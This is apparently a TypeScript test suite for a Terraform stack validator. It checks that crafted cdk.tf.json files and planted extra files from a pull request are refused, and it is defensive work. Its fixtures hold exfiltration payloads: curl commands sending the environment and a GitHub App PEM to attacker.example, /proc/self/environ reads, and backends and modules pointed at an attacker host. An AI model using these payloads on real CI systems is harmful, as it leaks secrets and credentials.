/**
 * Crafted stacks from issue 11 (an attacker who can open a pull request controls the whole synth
 * artifact) and their variants, each run through `prepare-stack --out`: a crafted document is
 * refused with its JSON path and nothing is written; an extra file of any kind Terraform would load
 * is simply not in the trusted folder. Plus the positive side: what synthesis writes passes.
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cli } from '../helpers/cli';
import { listFiles, PROJECT_RUN_STACKS, projectRunStacks, RUN_ENV, runStackText, workspace } from './stack-fixtures';

// eslint-disable-next-line @typescript-eslint/no-explicit-any -- crafted documents edit arbitrary Terraform JSON
type Doc = Record<string, any>; // any: crafted documents edit arbitrary Terraform JSON
const good = (): Doc => JSON.parse(runStackText());
const REPO = 'learner-alice-nguyen';
const FILE = 'learner-alice-nguyen--github_workflows_ack_yml';
const ENVIRON = '${file("/proc/self/environ")}';
const edit = (f: (d: Doc) => void): string => {
  const d = good();
  f(d);
  return JSON.stringify(d, null, 2);
};
/** A document whose key `key` appears twice: first `first`, then the rest of the good document (which has its own). */
const duplicated = (key: string, first: unknown, extra: (d: Doc) => void = () => undefined): string =>
  `{"${key}": ${JSON.stringify(first)}, ${edit(extra).slice(1)}`;
const LOCAL_EXEC = [{ 'local-exec': { command: 'env | curl -d @- https://attacker.example' } }];

/** name -> [cdk.tf.json text, the refusal(s) stderr must hold]. */
const CRAFTED: Record<string, [string, RegExp[]]> = {
  'file() of the runner environment in an output': [
    edit((d) => (d.output = { env: { value: ENVIRON } })),
    [/cdk\.tf\.json: output: outputs are not allowed/],
  ],
  'filebase64() in a github_* attribute': [
    edit((d) => (d.resource.github_repository_file[FILE].content = '${filebase64("/home/runner/work/_temp/app.pem")}')),
    [
      /resource\.github_repository_file\["learner-alice-nguyen--github_workflows_ack_yml"\]\.content: a template expression "\$\{filebase64\(\\"\/home\/runner\/work\/_temp\/app\.pem\\"\)\}"/,
    ],
  ],
  'file() nested in the template block': [
    edit((d) => (d.resource.github_repository[REPO].template.repository = `x-${ENVIRON}`)),
    [/resource\.github_repository\["learner-alice-nguyen"\]\.template\.repository: a template expression/],
  ],
  'a directive in a collaborator username': [
    edit((d) => (d.resource.github_repository_collaborator[REPO].username = '%{ for k, v in {} }${v}%{ endfor }')),
    [/\.username: a template expression "%\{ for k, v in \{\}/],
  ],
  'file() in the import id': [
    edit((d) => (d.import = [{ to: `github_repository.${REPO}`, id: ENVIRON }])),
    [/import\[0\]\.id: a template expression/],
  ],
  'base_url pointed at another host (the App JWT would go there)': [
    edit((d) => (d.provider.github[0].base_url = 'https://attacker.example/')),
    [/provider\.github\[0\]\.base_url: expected "http:\/\/127\.0\.0\.1:54219\/"/],
  ],
  'owner of another organization': [
    edit((d) => (d.provider.github[0].owner = 'victim-org')),
    [/provider\.github\[0\]\.owner: expected "learning-rooms-example"/],
  ],
  'a token in the provider': [
    edit((d) => (d.provider.github[0].token = ENVIRON)),
    [/provider\.github\[0\]\.token: a credential does not belong/],
  ],
  'app_auth with pem_file': [
    edit((d) => (d.provider.github[0].app_auth = { pem_file: ENVIRON })),
    [/provider\.github\[0\]\.app_auth: expected exactly an empty object/],
  ],
  'a second, aliased provider': [
    edit((d) =>
      d.provider.github.push({ alias: 'evil', owner: 'learning-rooms-example', base_url: 'https://attacker.example/' }),
    ),
    [/provider\.github: expected exactly one provider configuration, found 2/],
  ],
  'an alias on the only provider': [
    edit((d) => (d.provider.github[0].alias = 'x')),
    [/provider\.github\[0\]\.alias: a second \(aliased\) provider configuration is not allowed/],
  ],
  'another provider': [
    edit((d) => (d.provider.http = [{}])),
    [/provider\.http: only the github provider may be configured/],
  ],
  'another required provider': [
    edit((d) => (d.terraform.required_providers.external = { source: 'hashicorp/external' })),
    [/terraform\.required_providers\.external: only the github provider/],
  ],
  'a data source': [
    edit((d) => (d.data = { github_user: { me: { username: 'x' } } })),
    [/cdk\.tf\.json: data: data sources are not allowed/],
  ],
  'a check block with a data source': [
    edit(
      (d) =>
        (d.check = {
          leak: {
            data: { http: { x: { url: 'https://attacker.example/' } } },
            assert: [{ condition: true, error_message: 'x' }],
          },
        }),
    ),
    [/cdk\.tf\.json: check: check blocks are not allowed/],
  ],
  'a module': [
    edit((d) => (d.module = { m: { source: 'git::https://attacker.example/m.git' } })),
    [/cdk\.tf\.json: module: modules are not allowed/],
  ],
  'locals, variables and moved blocks': [
    edit((d) =>
      Object.assign(d, {
        locals: { x: ENVIRON },
        variable: { v: { default: 1 } },
        moved: [{ from: 'a.b', to: 'c.d' }],
      }),
    ),
    [/cdk\.tf\.json: locals: /, /cdk\.tf\.json: variable: /, /cdk\.tf\.json: moved: /],
  ],
  'a provider meta-argument on a resource': [
    edit((d) => (d.resource.github_repository[REPO].provider = 'github.evil')),
    [/\["learner-alice-nguyen"\]\.provider: the meta-argument provider is not allowed/],
  ],
  'count, for_each and depends_on': [
    edit((d) =>
      Object.assign(d.resource.github_repository_collaborator[REPO], { count: 1, for_each: {}, depends_on: [] }),
    ),
    [
      /\.count: the meta-argument count/,
      /\.for_each: the meta-argument for_each/,
      /\.depends_on: the meta-argument depends_on/,
    ],
  ],
  'a local-exec provisioner': [
    edit((d) => (d.resource.github_repository_file[FILE].provisioner = LOCAL_EXEC)),
    [/\.provisioner: provisioners are not allowed/],
  ],
  'a local-exec provisioner hidden by writing the resource body as an array': [
    edit(
      (d) => (d.resource.github_repository[REPO] = [d.resource.github_repository[REPO], { provisioner: LOCAL_EXEC }]),
    ),
    [
      /resource\.github_repository\["learner-alice-nguyen"\]: expected a resource body as one JSON object, found an array/,
    ],
  ],
  'a connection block': [
    edit((d) => (d.resource.github_repository[REPO].connection = { type: 'ssh', host: 'attacker.example' })),
    [/\.connection: connection blocks are not allowed/],
  ],
  'a terraform_data resource with a provisioner': [
    edit((d) => (d.resource.terraform_data = { x: { provisioner: LOCAL_EXEC } })),
    [/resource\.terraform_data: resource type not allowed/],
  ],
  'another github_* resource type': [
    edit(
      (d) =>
        (d.resource.github_actions_secret = { s: { repository: 'r', secret_name: 'S', plaintext_value: ENVIRON } }),
    ),
    [/resource\.github_actions_secret: resource type not allowed/],
  ],
  'terraform written as an array (a second block with another backend)': [
    edit((d) => (d.terraform = [d.terraform, { backend: { http: { address: 'https://attacker.example/' } } }])),
    [/cdk\.tf\.json: terraform: expected the terraform block as one JSON object, found an array/],
  ],
  'provider written as an array': [
    edit((d) => (d.provider = [d.provider, { github: { alias: 'x' } }])),
    [/cdk\.tf\.json: provider: expected the provider block as one JSON object, found an array/],
  ],
  'resource written as an array': [
    edit((d) => (d.resource = [d.resource, { terraform_data: { x: { provisioner: LOCAL_EXEC } } }])),
    [/cdk\.tf\.json: resource: expected the resource block as one JSON object/],
  ],
  'a resource type written as an array': [
    edit((d) => (d.resource.github_repository_file = [d.resource.github_repository_file])),
    [
      /resource\.github_repository_file: expected the github_repository_file resources \(name to body\) as one JSON object/,
    ],
  ],
  'the lifecycle written as an array': [
    edit(
      (d) =>
        (d.resource.github_repository[REPO].lifecycle = [
          d.resource.github_repository[REPO].lifecycle,
          { prevent_destroy: false },
        ]),
    ),
    [/\.lifecycle: expected exactly \{"ignore_changes": \["template"\]\}/],
  ],
  'another lifecycle': [
    edit(
      (d) =>
        (d.resource.github_repository[REPO].lifecycle = {
          ignore_changes: ['template'],
          replace_triggered_by: ['github_repository.x'],
        }),
    ),
    [/\.lifecycle: expected exactly/],
  ],
  'a backend in cdk.tf.json': [
    edit((d) => (d.terraform.backend = { http: { address: 'https://attacker.example/' } })),
    [/terraform\.backend\.http: only the local backend/],
  ],
  'terraform cloud': [
    edit((d) => (d.terraform.cloud = { organization: 'x' })),
    [/terraform\.cloud: not allowed in the terraform block/],
  ],
  'a duplicated provider key (JSON.parse keeps the last, HCL reads both)': [
    duplicated('provider', { github: [{ owner: 'x', base_url: 'https://attacker.example/' }] }),
    [/\(the document\): property "provider" appears twice in one object/],
  ],
  'a duplicated data key': [
    duplicated('data', { external: { x: { program: ['sh', '-c', 'env'] } } }, (d) => (d.data = {})),
    [/\(the document\): property "data" appears twice/],
  ],
  'a duplicated output key': [
    duplicated('output', { x: { value: ENVIRON } }, (d) => (d.output = {})),
    [/property "output" appears twice/],
  ],
  'a duplicated terraform key': [
    duplicated('terraform', { backend: { http: { address: 'https://attacker.example/' } } }),
    [/property "terraform" appears twice/],
  ],
  'a duplicated resource key': [
    duplicated('resource', { terraform_data: { x: { provisioner: LOCAL_EXEC } } }),
    [/property "resource" appears twice/],
  ],
  'a duplicated attribute inside a resource body': [
    runStackText().replace(
      '"overwrite_on_create": true',
      `"content": ${JSON.stringify(ENVIRON)}, "overwrite_on_create": true`,
    ),
    [
      /resource\.github_repository_file\["learner-[a-z0-9-]+--github_workflows_[a-z_]+"\]: property "content" appears twice/,
    ],
  ],
  'an import into a resource the stack does not declare': [
    edit((d) => (d.import = [{ to: 'github_repository.admin-repo', id: 'admin' }])),
    [/import\[0\]\.to: "github_repository\.admin-repo" is not a resource of this stack/],
  ],
  'an import with a provisioner': [
    edit((d) => (d.import = [{ to: `github_repository.${REPO}`, id: 'x', provisioner: LOCAL_EXEC }])),
    [/import\[0\]\.provisioner: an import block holds only to and id/],
  ],
  'a removed block with a destroy-time provisioner': [
    edit(
      (d) =>
        (d.removed = [
          {
            from: 'github_repository_file.learner-gone--x',
            lifecycle: { destroy: false },
            provisioner: [{ 'local-exec': { when: 'destroy', command: 'env' } }],
          },
        ]),
    ),
    [/removed\[0\]\.provisioner: provisioners are not allowed/],
  ],
  'a removed block for a foreign address': [
    edit((d) => (d.removed = [{ from: 'terraform_data.x', lifecycle: { destroy: false } }])),
    [/removed\[0\]\.from: expected the address of a room resource/],
  ],
  'a removed block that destroys': [
    edit((d) => (d.removed = [{ from: 'github_repository.learner-gone', lifecycle: { destroy: true } }])),
    [/removed\[0\]\.lifecycle: expected exactly \{"destroy": false\}/],
  ],
  'a reference to another repository attribute': [
    edit(
      (d) =>
        (d.resource.github_repository_file[FILE].repository = '${github_repository.learner-alice-nguyen.full_name}'),
    ),
    [/\.repository: expected exactly "\$\{github_repository\.<name>\.name\}"/],
  ],
};

describe('crafted stacks are refused with their JSON path, and nothing is written', () => {
  test.each(Object.entries(CRAFTED))('%s', async (_name, [text, expected]) => {
    const { root, dir } = workspace({ 'cdk.tf.json': text });
    const out = join(root, 'run', '2026-spring');
    const r = await cli(['prepare-stack', '--dir', dir, '--out-dir', out], { cwd: root, env: RUN_ENV });
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    const lines = r.stderr.trimEnd().split('\n');
    for (const line of lines) expect(line).toMatch(/^learning-rooms prepare-stack: 2026-spring: cdk\.tf\.json: /);
    for (const re of expected) expect(lines.some((l) => re.test(l))).toBe(true);
    expect(readdirSync(root).sort()).toEqual(['.terraform.lock.hcl', 'artifact']);
  });

  test('a symbolic link as cdk.tf.json is refused, even to a valid stack', async () => {
    const { root, dir } = workspace({});
    writeFileSync(join(root, 'valid.json'), runStackText());
    symlinkSync(join(root, 'valid.json'), join(dir, 'cdk.tf.json'));
    const r = await cli(['prepare-stack', '--dir', dir, '--out-dir', join(root, 'run')], { cwd: root, env: RUN_ENV });
    expect(r).toEqual({
      code: 1,
      stdout: '',
      stderr:
        'learning-rooms prepare-stack: 2026-spring: cdk.tf.json is a symbolic link; expected the synthesized file itself\n',
    });
  });
});

/** Every kind of file Terraform (or its CLI) would pick up from its working directory. */
const EXTRA_FILES: Record<string, string> = {
  'zz_override.tf.json': JSON.stringify({
    terraform: { backend: { http: { address: 'http://127.0.0.1:9/state', password: 'x' } } },
  }),
  'override.tf.json': JSON.stringify({ provider: { github: { base_url: 'https://attacker.example/' } } }),
  'override.tf': 'provider "github" {\n  base_url = "https://attacker.example/"\n}\n',
  'main_override.tf': 'terraform {\n  backend "http" {\n    address = "https://attacker.example/"\n  }\n}\n',
  'backend_override.tf.json': JSON.stringify({
    terraform: { backend: { http: { address: 'https://attacker.example/' } } },
  }),
  'main.tf': 'output "env" {\n  value = file("/proc/self/environ")\n}\n',
  'extra.tf.json': JSON.stringify({ data: { external: { x: { program: ['sh', '-c', 'env'] } } } }),
  'terraform.tfvars': 'x = "y"\n',
  'terraform.tfvars.json': '{"x": "y"}',
  'evil.auto.tfvars': 'x = "y"\n',
  'evil.auto.tfvars.json': '{"x": "y"}',
  '.terraformrc': 'provider_installation {\n  dev_overrides {\n    "integrations/github" = "./bin"\n  }\n}\n',
  'terraform.rc': 'plugin_cache_dir = "./cache"\n',
  '.terraform.lock.hcl':
    'provider "registry.terraform.io/integrations/github" {\n  version = "6.9.0"\n  hashes = ["h1:AttackerAttackerAttackerAttackerAttackerAtta="]\n}\n',
  'terraform.d/plugins/registry.terraform.io/integrations/github/6.9.0/linux_amd64/terraform-provider-github_v6.9.0':
    '#!/bin/sh\ncat "$GITHUB_APP_PEM_FILE" | curl -d @- https://attacker.example\n',
  '.terraform/providers/registry.terraform.io/integrations/github/6.9.0/linux_amd64/terraform-provider-github_v6.9.0':
    '#!/bin/sh\nenv\n',
  '.terraform/terraform.tfstate': JSON.stringify({
    version: 3,
    backend: { type: 'http', config: { address: 'https://attacker.example/' } },
  }),
  'modules/m/main.tf': 'resource "terraform_data" "x" {}\n',
};

describe('extra files in the artifact never reach the trusted folder', () => {
  let reference: Record<string, string>;
  beforeAll(async () => {
    const { root, dir } = workspace({ 'cdk.tf.json': runStackText() });
    const out = join(root, 'run');
    expect(
      (
        await cli(['prepare-stack', '--dir', dir, '--out-dir', out, '--state-dir', '/state'], {
          cwd: root,
          env: RUN_ENV,
        })
      ).code,
    ).toBe(0);
    reference = Object.fromEntries(listFiles(out).map((f) => [f, readFileSync(join(out, f), 'utf8')]));
  });

  test.each(Object.keys(EXTRA_FILES))('%s', async (extra) => {
    const { root, dir } = workspace({ 'cdk.tf.json': runStackText(), [extra]: EXTRA_FILES[extra] });
    const out = join(root, 'run');
    const r = await cli(['prepare-stack', '--dir', dir, '--out-dir', out, '--state-dir', '/state'], {
      cwd: root,
      env: RUN_ENV,
    });
    expect(r.code).toBe(0);
    expect(listFiles(out)).toEqual(['.terraform.lock.hcl', 'backend_override.tf.json', 'cdk.tf.json']);
    expect(Object.fromEntries(listFiles(out).map((f) => [f, readFileSync(join(out, f), 'utf8')]))).toEqual(reference);
  });

  test('all of them at once', async () => {
    const { root, dir } = workspace({ 'cdk.tf.json': runStackText(), ...EXTRA_FILES });
    const out = join(root, 'run');
    expect(
      (
        await cli(['prepare-stack', '--dir', dir, '--out-dir', out, '--state-dir', '/state'], {
          cwd: root,
          env: RUN_ENV,
        })
      ).code,
    ).toBe(0);
    expect(listFiles(out)).toEqual(Object.keys(reference));
  });
});

describe('what synthesis writes passes, and the trusted folder holds exactly three files', () => {
  test.each(projectRunStacks())('recorded run %s', async (name) => {
    const text = readFileSync(join(PROJECT_RUN_STACKS, name), 'utf8');
    const { root, dir } = workspace({ 'cdk.tf.json': text });
    const out = join(root, 'run');
    const r = await cli(['prepare-stack', '--dir', dir, '--out-dir', out], { cwd: root, env: RUN_ENV });
    expect(r.stderr).toBe('');
    expect(listFiles(out)).toEqual(['.terraform.lock.hcl', 'backend_override.tf.json', 'cdk.tf.json']);
    expect(JSON.parse(readFileSync(join(out, 'cdk.tf.json'), 'utf8'))).toEqual(JSON.parse(text));
  });

  test.each([
    ['github-app mode, default settings', {}],
    [
      'actions-bot mode, a base URL without its slash, another owner',
      {
        PROVISIONING_MODE: 'actions-bot',
        GITHUB_BASE_URL: 'http://127.0.0.1:8765',
        PROVISIONING_STUDENT_OWNER: 'acme-workshops',
      },
    ],
  ])(
    'the example roster synthesized now: %s',
    async (_name, settings: Record<string, string>) => {
      const synthOut = mkdtempSync(join(tmpdir(), 'lr-synth-'));
      const repo = join(__dirname, '..', '..');
      const synth = await cli(['synth', 'examples/roster.example.json', '--out-dir', synthOut], {
        cwd: repo,
        env: { ...settings, LEARNING_ROOMS_BACKEND_DIR: synthOut },
      });
      expect(synth.code).toBe(0);
      const stacks = readdirSync(join(synthOut, 'stacks'));
      expect(stacks.length).toBeGreaterThan(1);
      const root = mkdtempSync(join(tmpdir(), 'lr-trusted-synth-'));
      mkdirSync(join(root, 'run'));
      writeFileSync(
        join(root, '.terraform.lock.hcl'),
        readFileSync(join(__dirname, '..', 'fixtures', 'attack-stacks', 'test-provider.lock.hcl')),
      );
      for (const stack of stacks) {
        const out = join(root, 'run', stack);
        const r = await cli(['prepare-stack', '--dir', join(synthOut, 'stacks', stack), '--out-dir', out], {
          cwd: root,
          env: settings,
        });
        expect(r.stderr).toBe('');
        expect(listFiles(out)).toEqual(['.terraform.lock.hcl', 'backend_override.tf.json', 'cdk.tf.json']);
      }
      // The same stacks under other settings are refused: the provider block must repeat this run's.
      const other = await cli(
        ['prepare-stack', '--dir', join(synthOut, 'stacks', stacks[0]), '--out-dir', join(root, 'other')],
        { cwd: root, env: { ...settings, PROVISIONING_STUDENT_OWNER: 'someone-else' } },
      );
      expect(other.code).toBe(1);
      expect(other.stderr).toMatch(/provider\.github\[0\]\.owner: expected "someone-else"/);
    },
    60_000,
  );
});
